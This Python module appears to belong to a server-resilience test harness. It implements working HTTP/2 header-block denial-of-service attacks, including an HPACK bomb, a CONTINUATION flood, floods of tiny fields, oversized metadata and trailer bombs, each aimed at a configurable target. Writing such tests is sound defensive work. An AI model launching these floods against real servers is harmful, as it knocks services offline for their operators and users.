"""Attacks by header blocks."""

from attacks import frames
from attacks.outcome import Outcome
from attacks.target import Target

BLOCKS = 100
# Nearly all of a dynamic table of 4096 bytes, the default.
LARGE_ENTRY = frames.literal("x-bomb", "v" * 4_000, indexed=True)
BOMB = frames.reference(frames.NEWEST_ENTRY) * 15_000
# As many streams as may be open at once.
CALLS = 256
# As often as it stays within the metadata that a call may have.
WITHIN = frames.reference(frames.NEWEST_ENTRY) * 6


def _requests(target: Target, block: bytes, first: bytes = b"") -> Outcome:
    """Requests with this block, each once the one before was answered; of the first another one."""
    with target.connect() as attacker:
        for at in range(BLOCKS):
            stream = 1 + 2 * at
            attacker.send(_split(stream, (at == 0 and first) or block))
            attacker.answered(at + 1)
        return attacker.outcome


def _split(stream: int, block: bytes) -> bytes:
    """HEADERS, and CONTINUATION where it takes more than a frame."""
    most = frames.MAX_PAYLOAD
    pieces = [block[at : at + most] for at in range(0, len(block), most)]
    kinds = [frames.HEADERS] + [frames.CONTINUATION] * (len(pieces) - 1)
    flags = [0] * (len(pieces) - 1) + [frames.END_HEADERS]
    flags[0] |= frames.END_STREAM
    rows = zip(kinds, pieces, flags, strict=True)
    return b"".join(frames.frame(kind, stream, piece, flag) for kind, piece, flag in rows)


def hpack_bomb(target: Target, hold: float) -> Outcome:
    """CVE-2016-1544: one large entry of the dynamic table, referred to 15,000 times by a byte
    each: 60 MB of fields from 15 kB, in each of a hundred requests."""
    head = target.head()
    # The head is not indexed: it never moves the entry.
    return _requests(target, head + BOMB, first=head + LARGE_ENTRY + BOMB)


def many_fields(target: Target, hold: float) -> Outcome:
    """CVE-2026-49975: 16,000 fields of a byte each, which cost far more to keep than to send."""
    accept_encoding = 16
    return _requests(target, target.head() + frames.reference(accept_encoding) * 16_000)


def continuation_flood(target: Target, hold: float) -> Outcome:
    """CVE-2024-28182: a header block that never ends."""
    opening = frames.headers(1, target.head(), end_headers=False)
    more = frames.frame(frames.CONTINUATION, 1, frames.literal("x", "1")) * 100
    with target.connect() as attacker:
        return attacker.flood(lambda at: opening if at == 0 else more, 1_000)


def large_metadata(target: Target, hold: float, size: int = 40 << 10) -> Outcome:
    """One field over the limit that the server has said."""
    return _requests(target, target.head(x_large="v" * size))


def unfinished_calls(target: Target, hold: float) -> Outcome:
    """Calls of nobody's, with such an entry six times over in each: 6 MB of metadata from 50 kB.
    None of them sends its request, and so none comes to where it would be refused."""
    head = target.head(token=None)
    with target.connect() as attacker:
        attacker.send(frames.headers(1, head + LARGE_ENTRY + WITHIN))
        for n in range(1, CALLS):
            attacker.send(frames.headers(1 + 2 * n, head + WITHIN))
        return attacker.answered(CALLS, hold)


def many_trailers(target: Target, hold: float) -> Outcome:
    """The same bomb after a request's body."""
    head, body = target.head(), target.body()
    with target.connect() as attacker:
        for at in range(BLOCKS):
            stream = 1 + 2 * at
            attacker.send(frames.headers(stream, head) + frames.data(stream, body))
            attacker.send(_split(stream, (LARGE_ENTRY if at == 0 else b"") + BOMB))
            attacker.answered(at + 1)
        return attacker.outcome
